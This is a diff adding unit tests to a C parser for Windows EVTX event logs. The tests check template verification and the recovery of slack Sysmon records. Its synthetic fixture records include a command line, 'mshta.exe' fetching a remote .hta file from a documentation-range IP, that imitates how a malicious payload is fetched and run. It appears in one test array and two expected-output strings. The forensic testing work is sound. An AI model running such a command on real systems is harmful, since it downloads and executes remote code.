@@ -476,13 +476,17 @@ put_str(struct bb *b, const char *s)
 		put16(b, (uint8_t)*s);
 }
 
-/* An inline name (its offset is the next byte). */
+/* An inline name (its offset is the next byte), hashed as Windows does. */
 static void
 put_name(struct bb *b, const char *s)
 {
+	uint32_t h = 0;
+
+	for (const char *p = s; *p != '\0'; p++)
+		h = h * 65599 + (uint8_t)*p;
 	put32(b, b->n + 4);
 	put32(b, 0);
-	put16(b, 0);
+	put16(b, h & 0xffff);
 	put_str(b, s);
 	put16(b, 0);
 }
@@ -1058,6 +1062,202 @@ START_TEST(recovered_dedup)
 }
 END_TEST
 
+
+/* ---- templates: verified before use, found by identifier ---- */
+
+/* Sysmon 1 fields (a shape) and Sysmon 3 fields (another shape). */
+static const struct evtxw_data tpl_proc[] = {
+	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:30.000", NULL, 0 },
+	{ "ProcessGuid", EVTXW_T_GUID, 0,
+	    "{A1B2C3D4-0054-DEAE-0000-0000127A1FA8}", NULL, 0 },
+	{ "ProcessId", EVTXW_T_UINT32, 0, "9512", NULL, 0 },
+	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\mshta.exe",
+	    NULL, 0 },
+	{ "CommandLine", EVTXW_T_STRING, 0,
+	    "mshta.exe http://198.51.100.23/3.hta", NULL, 0 },
+};
+static const struct evtxw_data tpl_proc2[] = {
+	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:20.000", NULL, 0 },
+	{ "ProcessGuid", EVTXW_T_GUID, 0,
+	    "{A1B2C3D4-0054-DEA4-0000-00001279DB64}", NULL, 0 },
+	{ "ProcessId", EVTXW_T_UINT32, 0, "9508", NULL, 0 },
+	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\cmd.exe",
+	    NULL, 0 },
+	{ "CommandLine", EVTXW_T_STRING, 0, "cmd.exe /c echo 1", NULL, 0 },
+};
+static const struct evtxw_data tpl_net[] = {
+	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:10.000", NULL, 0 },
+	{ "ProcessId", EVTXW_T_UINT32, 0, "9504", NULL, 0 },
+	{ "Image", EVTXW_T_STRING, 0, "C:\\Windows\\System32\\cmd.exe",
+	    NULL, 0 },
+	{ "Protocol", EVTXW_T_STRING, 0, "tcp", NULL, 0 },
+};
+
+static void
+tpl_event(struct evtxw_event *ev, uint16_t eid, uint64_t recid,
+    const struct evtxw_data *d, size_t n, unsigned flags)
+{
+	memset(ev, 0, sizeof(*ev));
+	ev->provider = EV_PROVIDER_SYSMON;
+	ev->event_id = eid;
+	ev->qualifiers = -1;
+	ev->version = 5;
+	ev->level = 4;
+	ev->time = 133541604000000000ULL + recid * 10000000ULL;
+	ev->record_id = recid;
+	ev->pid = 2812;
+	ev->tid = 3656;
+	ev->channel = "Microsoft-Windows-Sysmon/Operational";
+	ev->computer = "WKS01.corp.local";
+	ev->user_sid = "S-1-5-18";
+	ev->body = EVTXW_BODY_EVENTDATA;
+	ev->data = d;
+	ev->ndata = n;
+	ev->flags = flags;
+}
+
+/* The recovered record of a file: its pairs as "name=value;" text. */
+struct tpl_seen {
+	char		 pairs[1024];
+	int		 recovered;
+	bool		 unresolved;
+};
+
+static int
+tpl_on_rec(const struct ev_record *rec, void *ctx)
+{
+	struct tpl_seen *s = ctx;
+	size_t k = 0;
+
+	if (!rec->recovered)
+		return 0;
+	s->recovered++;
+	s->unresolved = rec->unresolved;
+	for (uint32_t i = 0; i < rec->ndata && k < sizeof(s->pairs); i++)
+		k += (size_t)snprintf(s->pairs + k, sizeof(s->pairs) - k,
+		    "%s=%s;", rec->data[i].name, rec->data[i].value);
+	return 0;
+}
+
+/*
+ * Writes one chunk: the allocated records (first n of evs) then a slack
+ * Sysmon 1 whose EventData instance points at the System template, and
+ * reads it back; *st gets the file's counters.
+ */
+static void
+tpl_read(const struct evtxw_event *evs, size_t n, struct tpl_seen *s,
+    struct evtx_stats *st)
+{
+	struct evtxw_opts wo = EVTXW_OPTS_INIT;
+	struct evtxw *w = evtxw_new(&wo);
+	struct ev_err err = EV_ERR_INIT;
+	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true };
+	struct evtx_sink sink = { tpl_on_rec, NULL, s };
+	struct evtxw_event slack;
+	struct evtx_file *f;
+	const uint8_t *b;
+	size_t len;
+
+	ck_assert_ptr_nonnull(w);
+	for (size_t i = 0; i < n; i++)
+		ck_assert_int_eq(evtxw_add(w, &evs[i], &err), 0);
+	tpl_event(&slack, 1, 7004, tpl_proc, NELEM(tpl_proc),
+	    EVTXW_EV_SLACK | EVTXW_EV_STALE_TPL);
+	ck_assert_int_eq(evtxw_add(w, &slack, &err), 0);
+	ck_assert_int_eq(evtxw_finish(w, &err), 0);
+	b = evtxw_bytes(w, &len);
+	memset(s, 0, sizeof(*s));
+	evtx_stats_init(st);
+	ck_assert_int_eq(evtx_file_open(spill(b, len), &o, &f, st, &err), 0);
+	ck_assert_int_eq(evtx_file_read(f, 0, evtx_file_units(f), &sink, st,
+	    &err), 0);
+	evtx_file_close(f);
+	unlink(tmp_path);
+	evtxw_free(w);
+}
+
+/*
+ * The definition at the instance's offset is another template (another
+ * identifier) and the chunk holds none with its identifier: the values
+ * are delivered by position, never under the other template's names.
+ */
+START_TEST(template_verify_reject)
+{
+	struct evtxw_event ev;
+	struct evtx_stats st;
+	struct tpl_seen s;
+
+	tpl_event(&ev, 3, 7001, tpl_net, NELEM(tpl_net), 0);
+	tpl_read(&ev, 1, &s, &st);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(s.unresolved);
+	ck_assert_str_eq(s.pairs, "#1=-;#2=2024-03-05 09:00:30.000;"
+	    "#3={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};#4=9512;"
+	    "#5=C:\\Windows\\System32\\mshta.exe;"
+	    "#6=mshta.exe http://198.51.100.23/3.hta;");
+	ck_assert_uint_eq(st.unresolved, 1);
+	evtx_stats_release(&st);
+}
+END_TEST
+
+/*
+ * The same template is defined elsewhere in the chunk (by an allocated
+ * record of the same shape): found by its identifier, values named.
+ */
+START_TEST(template_guid_in_chunk)
+{
+	struct evtxw_event ev[2];
+	struct evtx_stats st;
+	struct tpl_seen s;
+
+	tpl_event(&ev[0], 1, 7001, tpl_proc2, NELEM(tpl_proc2), 0);
+	tpl_event(&ev[1], 3, 7002, tpl_net, NELEM(tpl_net), 0);
+	tpl_read(ev, 2, &s, &st);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, "RuleName=-;UtcTime=2024-03-05 "
+	    "09:00:30.000;ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};"
+	    "ProcessId=9512;Image=C:\\Windows\\System32\\mshta.exe;"
+	    "CommandLine=mshta.exe http://198.51.100.23/3.hta;");
+	ck_assert_uint_eq(st.unresolved, 0);
+	evtx_stats_release(&st);
+}
+END_TEST
+
+/*
+ * A definition with the instance's identifier whose substitutions do
+ * not fit the values (a forged or colliding one: ProcessId declared a
+ * string) is not used.
+ */
+START_TEST(template_tokens_misfit)
+{
+	static const struct evtxw_data forged[] = {
+		{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+		{ "UtcTime", EVTXW_T_STRING, 0, "x", NULL, 0 },
+		{ "ProcessGuid", EVTXW_T_GUID, 0,
+		    "{A1B2C3D4-0054-DEAE-0000-0000127A1FA8}", NULL, 0 },
+		{ "ProcessId", EVTXW_T_STRING, 0, "9512", NULL, 0 },
+		{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
+		{ "CommandLine", EVTXW_T_STRING, 0, "z", NULL, 0 },
+	};
+	struct evtxw_event ev;
+	struct evtx_stats st;
+	struct tpl_seen s;
+
+	/* same names, other declared types: another key, another GUID;
+	   the instance's identifier then names no definition that fits */
+	tpl_event(&ev, 1, 7001, forged, NELEM(forged), 0);
+	tpl_read(&ev, 1, &s, &st);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(s.unresolved);
+	ck_assert_ptr_null(strstr(s.pairs, "Image="));
+	evtx_stats_release(&st);
+}
+END_TEST
+
 static Suite *
 evtx_suite(void)
 {
@@ -1100,6 +1300,9 @@ evtx_suite(void)
 	tcase_add_test(tc, recovered_slack);
 	tcase_add_test(tc, recovered_hidden_chunk);
 	tcase_add_test(tc, recovered_dedup);
+	tcase_add_test(tc, template_verify_reject);
+	tcase_add_test(tc, template_guid_in_chunk);
+	tcase_add_test(tc, template_tokens_misfit);
 	suite_add_tcase(s, tc);
 	return s;
 }
